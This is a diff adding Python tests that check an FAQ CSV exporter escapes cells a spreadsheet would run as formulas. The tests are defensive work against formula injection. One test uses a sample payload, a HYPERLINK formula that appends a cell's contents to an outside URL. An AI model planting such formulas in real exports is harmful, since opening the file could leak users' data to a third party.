@@ -16,11 +16,15 @@ from kb_kit import COLUMNS, NOON, ROWS, Opened, write_csv
 from sqlalchemy.engine import Engine
 
 from core.audience import Audience
+from core.cell import guarded, unguarded
 from core.errors import InvalidInput
 from core.settings import CHECKOUT
+from core.table import read_table
 from retrieval.analysis import has_words
 from retrieval.catalogue import CATALOGUE
-from retrieval.exporting import export_all, export_faq
+from retrieval.entry import Entry
+from retrieval.exporting import export_all, export_faq, faq_csv
+from retrieval.faq import parse_faq
 from retrieval.importing import Importer, Options, files_in
 from retrieval.repository import Repository
 from retrieval.revisions import State
@@ -201,3 +205,21 @@ def test_any_file_that_was_taken_and_not_changed_comes_back_as_it_was(
     assert (tmp_path / kb / "faq" / "faq.csv").read_bytes() == content
     export_faq(repository, kb, tmp_path / f"{kb}-again.csv")
     assert (tmp_path / f"{kb}-again.csv").read_bytes() == content
+
+
+@given(st.text("'=+-@＝＋－＠\t\rあ1", max_size=6))
+def test_a_cell_that_a_spreadsheet_would_run_is_marked_and_comes_back_as_it_was(text: str) -> None:
+    assert not guarded(text).startswith(tuple("=+-@\t\r＝＋－＠"))
+    assert unguarded(guarded(text)) == text
+
+
+def test_a_written_table_holds_no_formula_and_is_read_in_as_the_same(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://example.jp/?"&A1)'
+    entries = [
+        Entry(id="-1", question="＠は何と読みますか。", answer=formula, paraphrases=("+81",), department="@課"),
+        Entry(id="2", question="'=は何ですか。", answer="- 持ち物\n- 印鑑"),
+    ]
+    (tmp_path / "faq.csv").write_bytes(faq_csv(entries))
+    cells = [cell for row in csv.reader(io.StringIO((tmp_path / "faq.csv").read_text("utf-8"), newline="")) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(tuple("=+-@＝＋－＠"))]
+    assert parse_faq(read_table(tmp_path / "faq.csv")) == (entries, [])
